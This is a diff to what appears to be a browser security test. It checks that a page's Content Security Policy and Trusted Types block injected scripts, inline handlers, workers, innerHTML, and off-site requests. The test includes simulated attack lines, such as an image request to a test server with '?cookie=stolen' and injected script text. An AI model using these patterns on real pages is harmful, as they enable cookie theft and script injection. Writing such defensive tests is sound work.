@@ -71,25 +71,46 @@ test('a script that got into the page all the same is not run, and reaches no ot
   await shadow.enter('Ada', '/things')
 
   const answered = await page.evaluate(async (target) => {
+    const refused = (act: () => void) => {
+      try {
+        act()
+      } catch (error) {
+        return error instanceof TypeError
+      }
+      return false
+    }
     const script = document.createElement('script')
-    script.textContent = "breaches.push('script')"
     const handler = document.createElement('div')
-    handler.setAttribute('onclick', "breaches.push('handler')")
+    const sinks = [
+      () => Object.assign(script, { textContent: "breaches.push('script')" }),
+      () => Object.assign(document.createElement('p'), { innerHTML: '<b>markup</b>' }),
+      () => handler.setAttribute('onclick', "breaches.push('handler')"),
+      () => new Worker(`${target}worker.js`),
+      () => new Worker('/api/session'),
+    ].map(refused)
+    script.append("breaches.push('script')")
     const image = document.createElement('img')
     const failed = new Promise((resolve) => image.addEventListener('error', resolve))
     image.src = `${target}?cookie=stolen`
     document.body.append(script, handler, image)
     handler.click()
     await failed
-    return { cookie: document.cookie, fetched: await fetch(target, { mode: 'no-cors' }).then(() => 'yes', String) }
+    return {
+      sinks,
+      cookie: document.cookie,
+      fetched: await fetch(target, { mode: 'no-cors' }).then(() => 'yes', String),
+    }
   }, url)
 
-  expect(answered).toEqual({ cookie: '', fetched: expect.stringContaining('TypeError') })
-  expect([...(await breachesOf(page))].sort()).toEqual([
+  expect(answered).toEqual({
+    sinks: [true, true, true, true, true],
+    cookie: '',
+    fetched: expect.stringContaining('TypeError'),
+  })
+  expect([...new Set(await breachesOf(page))].sort()).toEqual([
     `connect-src ${url}`,
     `img-src ${url}?cookie=stolen`,
-    'script-src-attr inline',
-    'script-src-elem inline',
+    'require-trusted-types-for trusted-types-sink', // text as a script, as markup, as a handler
   ])
   expect(requests).toBe(0)
   elsewhere.close()
